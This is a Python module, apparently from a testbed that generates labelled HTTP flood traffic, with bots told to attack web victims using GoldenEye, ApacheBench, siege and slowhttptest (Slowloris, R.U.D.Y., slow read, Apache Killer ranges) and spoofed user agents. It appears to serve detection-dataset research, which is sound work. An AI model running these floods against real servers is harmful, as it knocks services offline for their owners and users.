"""HTTP floods: fast requests by GoldenEye, ab and siege, slow ones by slowhttptest."""

from testbed.network import python_module
from testbed.orders import WEB_VICTIMS, Draw, Kind, Order
from testbed.services import PAGE_BYTES

SUBCATEGORIES = {"DoS_HTTP": (1, 1), "DDoS_HTTP": (2, 4)}
PACKETS_OF_A_REQUEST = 9  # of a connection of its own, with the smallest page
BYTES_OF_A_PACKET = 1000  # of a page, with what acknowledges it
TIMEOUT_S = 6.0


def _target(draw: Draw, scheme: str = "http") -> tuple[str, int]:
    """Choose a page, and as many requests for it as the bot has packets for."""
    page = draw.rng.choice(list(PAGE_BYTES))
    packets = PACKETS_OF_A_REQUEST + PAGE_BYTES[page] // BYTES_OF_A_PACKET
    url = f"{scheme}://{draw.victim(WEB_VICTIMS).address}/{page}.html"
    return url, max(4, draw.each() // packets)


def _goldeneye(draw: Draw, method: str) -> list[Order]:
    rng = draw.rng
    url, requests = _target(draw)
    pause_s = rng.uniform(1.5, 4) / requests
    options = ["-w", "1", "-s", f"{rng.randint(4, 12)}", "-m", method]
    return [
        Order(
            bot,
            python_module("tools.goldeneye", f"{requests}", f"{pause_s:.4f}", url, *options),
            TIMEOUT_S,
        )
        for bot in draw.bots
    ]


def goldeneye_get(draw: Draw) -> list[Order]:
    """GoldenEye's GET requests with random headers, over kept connections."""
    return _goldeneye(draw, "get")


def goldeneye_post(draw: Draw) -> list[Order]:
    """GoldenEye's POST requests, or either method."""
    return _goldeneye(draw, draw.rng.choice(("post", "random")))


def _slowhttptest(draw: Draw, *how: str) -> list[Order]:
    rng = draw.rng
    url, _ = _target(draw)
    connections = max(4, min(250, draw.each() // 12))
    rate = max(2, round(connections / rng.uniform(1, 4)))
    options = [*how, "-c", f"{connections}", "-r", f"{rate}", "-i", f"{rng.randint(1, 2)}",
               "-l", f"{rng.randint(4, 5)}", "-x", f"{rng.randint(8, 200)}", "-p", "2",
               "-u", url]  # fmt: skip
    return [Order(bot, ["slowhttptest", *options], TIMEOUT_S) for bot in draw.bots]


def slow_headers(draw: Draw) -> list[Order]:
    """Slowloris: headers that never end."""
    return _slowhttptest(draw, "-H")


def slow_body(draw: Draw) -> list[Order]:
    """R.U.D.Y.: a body in drops."""
    return _slowhttptest(draw, "-B", "-s", f"{draw.rng.choice((512, 4096, 8192))}")


def slow_read(draw: Draw) -> list[Order]:
    """Answers read in drops, with a small window."""
    low = draw.rng.choice((1, 10, 64))
    return _slowhttptest(draw, "-X", "-w", f"{low}", "-y", f"{low + draw.rng.randint(10, 400)}",
                         "-n", "1", "-z", f"{draw.rng.choice((5, 32, 128))}")  # fmt: skip


def ab(draw: Draw) -> list[Order]:
    """ApacheBench, with or without kept connections, in the open or over TLS."""
    rng = draw.rng
    scheme = rng.choice(("http", "http", "https"))
    url, requests = _target(draw, scheme)
    if scheme == "https":  # whose packets hardly compress
        requests = max(4, requests // 4)
    keep = ["-k"] if rng.random() < 0.5 else []
    together = min(requests, rng.randint(2, 20))
    options = [*keep, "-q", "-t", "5", "-n", f"{requests}", "-c", f"{together}", "-H",
               f"User-Agent: {rng.choice(AGENTS)}"]  # fmt: skip
    return [Order(bot, ["ab", *options, url], TIMEOUT_S) for bot in draw.bots]


def siege(draw: Draw) -> list[Order]:
    """Siege: some users who ask again and again after short pauses."""
    rng = draw.rng
    url, requests = _target(draw)
    users = min(requests, rng.randint(3, 12))
    options = ["-q", "-b" if rng.random() < 0.5 else "-d0.2", "-c", f"{users}", "-r",
               f"{max(1, requests // users)}", "-A", rng.choice(AGENTS)]  # fmt: skip
    return [Order(bot, ["siege", *options, url], TIMEOUT_S) for bot in draw.bots]


def ranges(draw: Draw) -> list[Order]:
    """Apache Killer: requests for thousands of overlapping ranges."""
    return _slowhttptest(draw, "-R", "-a", "5", "-b", "400")


AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "curl/7.88.1", "okhttp/4.9.3", "python-requests/2.31",
)  # fmt: skip

KINDS: dict[str, Kind] = {
    "goldeneye_get": goldeneye_get, "goldeneye_post": goldeneye_post,
    "slow_headers": slow_headers, "slow_body": slow_body, "slow_read": slow_read,
    "ab": ab, "siege": siege,
}  # fmt: skip
NOVEL: dict[str, Kind] = {"ranges": ranges}
